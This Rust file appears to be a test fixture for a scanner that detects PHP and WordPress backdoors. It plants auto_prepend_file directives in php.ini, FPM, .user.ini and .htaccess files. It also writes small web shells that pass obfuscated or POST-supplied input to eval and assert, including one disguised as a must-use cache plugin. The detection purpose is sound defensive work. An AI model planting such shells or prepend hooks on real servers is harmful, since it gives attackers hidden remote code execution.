//! Planted artifacts for the `php` check: prepend backdoors in php.ini, an FPM pool,
//! `.user.ini` and `.htaccess`, and a must-use plugin loader.

use crate::{Expect, FakeHost};

pub fn plant(h: &FakeHost) -> Vec<Expect> {
    h.append(
        "/etc/php/8.2/fpm/conf.d/99-perf.ini",
        "auto_prepend_file = /var/lib/php/sessions/.sess_cache.php\n",
    );
    h.append(
        "/etc/php/8.2/fpm/pool.d/www.conf",
        "php_admin_value[auto_append_file] = /usr/share/php/.stat.php\n",
    );
    h.write("/var/www/html/.user.ini", "upload_max_filesize = 64M\nauto_prepend_file = /var/www/html/wp-content/uploads/2024/05/.thumb.php\n");
    h.write(
        "/var/www/html/wp-content/themes/twentyone/.htaccess",
        "<IfModule mod_php.c>\nphp_value auto_prepend_file \"/var/www/html/wp-includes/css/dist/block.php\"\n</IfModule>\n",
    );
    h.write(
        "/var/www/html/wp-includes/css/dist/block.php",
        "<?php $k='x'; @eval(gzinflate(base64_decode('S0ktLlGwUqhWsgYA')));\n",
    );
    h.write(
        "/var/www/html/wp-content/mu-plugins/wp-cache-db.php",
        "<?php\n/* Plugin Name: Cache DB */\n$p = str_rot13(base64_decode(get_option('_wp_cache_db')));\n@eval($p);\n",
    );
    h.write(
        "/var/www/html/wp-content/mu-plugins/sys/health.php",
        "<?php\nif (isset($_POST['h'])) { @assert($_POST['h']); }\n",
    );
    vec![
        Expect::new("php.auto-prepend", "/etc/php/8.2/fpm/conf.d/99-perf.ini"),
        Expect::new("php.auto-prepend", "/etc/php/8.2/fpm/pool.d/www.conf"),
        Expect::new("php.auto-prepend", "/var/www/html/.user.ini"),
        Expect::new(
            "php.auto-prepend",
            "/var/www/html/wp-content/themes/twentyone/.htaccess",
        ),
        Expect::new(
            "wp.mu-plugin-loader",
            "/var/www/html/wp-content/mu-plugins/wp-cache-db.php",
        ),
        Expect::new(
            "wp.mu-plugin-loader",
            "/var/www/html/wp-content/mu-plugins/sys/health.php",
        ),
    ]
}
